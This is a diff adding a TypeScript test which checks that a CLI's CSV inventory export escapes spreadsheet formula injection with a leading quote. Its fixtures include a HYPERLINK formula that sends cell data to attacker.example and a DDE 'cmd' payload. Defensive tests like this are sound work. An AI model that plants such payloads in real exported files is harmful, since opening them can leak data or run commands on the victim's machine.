@@ -85,6 +85,37 @@ describe('field-dependency inventory', { timeout: PROCESS_TEST_TIMEOUT }, () => 
     ]);
   });
 
+  it('--format csv: a value a spreadsheet would run as a formula is written as text (OWASP: a leading quote, the cell quoted)', async () => {
+    const names = ['=HYPERLINK("http://attacker.example/?"&A1,"open")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\tpadded', '\rreturned', 'plain-name'];
+    const project = projects.create({
+      'tsconfig.json': JSON.stringify({
+        compilerOptions: { ...(JSON.parse(BASIC_TSCONFIG) as { compilerOptions: object }).compilerOptions, paths: { 'field-dependency': [path.join(REPO_ROOT, 'src/index.ts')] } },
+        include: ['src'],
+      }),
+      'src/fields.ts': [
+        "import { fieldDependency } from 'field-dependency';",
+        ...names.map((name, index) => `export const field${index} = fieldDependency(String, { owner: 'sheets', name: ${JSON.stringify(name)} })((id: string) => id);`),
+        '',
+      ].join('\n'),
+    });
+    const run = await runCliInProcess(['inventory', '--format', 'csv'], project);
+
+    expect(run.stderr).toBe('');
+    expect(run.status).toBe(0);
+    const flagKey = (name: string): string => `field-dependency.sheets.${name}`;
+    expect(run.stdout.split('\r\n').slice(1, -1).sort()).toEqual(
+      [
+        `"'=HYPERLINK(""http://attacker.example/?""&A1,""open"")",sheets,false,String,"${flagKey('=HYPERLINK(""http://attacker.example/?""&A1,""open"")')}",src/fields.ts,2`,
+        `"'+cmd|' /C calc'!A0",sheets,false,String,${flagKey("+cmd|' /C calc'!A0")},src/fields.ts,3`,
+        `"'@SUM(1+1)",sheets,false,String,${flagKey('@SUM(1+1)')},src/fields.ts,4`,
+        `"'-2+3",sheets,false,String,${flagKey('-2+3')},src/fields.ts,5`,
+        `"'\tpadded",sheets,false,String,${flagKey('\tpadded')},src/fields.ts,6`,
+        `"'\rreturned",sheets,false,String,"${flagKey('\rreturned')}",src/fields.ts,7`,
+        `plain-name,sheets,false,String,${flagKey('plain-name')},src/fields.ts,8`,
+      ].sort(),
+    );
+  });
+
   it('lists nothing for a project without field dependencies', async () => {
     const run = await runCliInProcess(['inventory'], projects.create({ 'tsconfig.json': BASIC_TSCONFIG, 'src/a.ts': 'export const a = 1;\n' }));
 
